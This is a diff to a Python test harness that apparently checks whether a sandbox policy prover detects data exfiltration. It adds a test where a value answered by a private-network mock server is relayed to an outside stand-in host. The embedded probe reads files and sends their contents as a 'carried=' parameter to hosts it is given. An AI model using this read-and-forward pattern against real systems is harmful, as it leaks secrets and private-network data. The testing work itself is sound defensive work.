@@ -21,13 +21,14 @@ OSHCTL = os.path.join(BUILD, "oshctl")
 PYTHON = os.path.realpath("/usr/bin/python3")
 SECRET = "secret-of-this-project"
 PRIVATE = "10.77.0.9"
+INSIDE = "known-in-the-private-network-alone"
 KEY = "sk-replay-0123456789abcdef"
 carried = []        # what credentials the servers outside have seen
 
 # In the sandbox: each request as the prover words it; prints what came of each as a line of JSON.
 PROBE = r"""
-import json, os, re, socket, ssl, sys
-secret = ""
+import http.client, json, os, re, socket, ssl, sys
+secret = answer = ""
 
 def dial(host, port, method, path):
     s = socket.create_connection((host, port), timeout=60)
@@ -36,10 +37,17 @@ def dial(host, port, method, path):
     body = secret if method not in ("GET", "HEAD") else ""
     path += ("&" if "?" in path else "?") + "carried=" + secret
     s.sendall(f"{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\nContent-Length: {len(body)}\r\n\r\n{body}".encode())
-    return "status " + s.makefile("rb").readline().decode().split(" ")[1]
+    global answer
+    said = http.client.HTTPResponse(s, method=method)
+    said.begin()
+    answer = said.read().decode(errors="replace").strip()
+    return f"status {said.status}"
 
 def one(q):
     global secret
+    if q == "keep what was answered":
+        secret = answer
+        return "kept"
     if m := re.fullmatch(r"open (\S+) read", q):
         secret = open(m[1]).read().strip()
         return "read " + secret
@@ -155,8 +163,23 @@ def private(w, t):
     t.ok(mine and PRIVATE in mine[0]["says"], "private_reach: found", said, found)
     got, r = replay(w, policy, [q["request"] for f in mine for q in f["requests"]])
     t.ok(got and all(g.startswith("status ") for g in got) and server.seen, "private_reach: a server there has seen it", got, server.seen, r)
+    chain(w, t)
     server.shutdown()
     server.server_close()
+
+
+def chain(w, t):
+    """What the server in the private network answers goes on to another one. Asked of a policy by which nothing secret can be read."""
+    ends = rules(f"{{host: {PRIVATE}, port: 80, allowed_ips: [{PRIVATE}]}}", "{host: plain.example, port: 80}")
+    found, said = prove(w, w.policy(ends).replace("include_workdir: true", "include_workdir: false"), None)
+    mine = [f for f in found if f["category"] == "exfiltration" and f["where"] == "plain.example:80"]
+    if not t.ok(mine and len(mine[0]["requests"]) == 2 and PRIVATE in mine[0]["says"], "from one endpoint to another: found", said, found):
+        return
+    first, second = (q["request"] for q in mine[0]["requests"])
+    w.plain.seen.clear()
+    got, r = replay(w, w.policy(ends), [first, "keep what was answered", second])
+    t.ok(got[1:2] == ["kept"] and any("carried=" + INSIDE in path for _, path in w.plain.seen), "from one endpoint to another: it is outside",
+         got, w.plain.seen, r)
 
 
 def injected(w, t):
@@ -210,12 +233,18 @@ def own_network():
 
 
 def note_credentials():
-    plain = Handler.do_GET
+    plain, other = Handler.do_GET, Handler.do_DELETE
 
     def get(self):
         carried.append(self.headers.get("authorization"))
         plain(self)
-    Handler.do_GET = get
+    def delete(self):
+        if self.server.server_address[0] != PRIVATE:
+            other(self)
+            return
+        self.server.seen.append((self.headers.get("Host", ""), self.path))
+        self.say(INSIDE.encode())
+    Handler.do_GET, Handler.do_DELETE = get, delete
 
 
 def main():
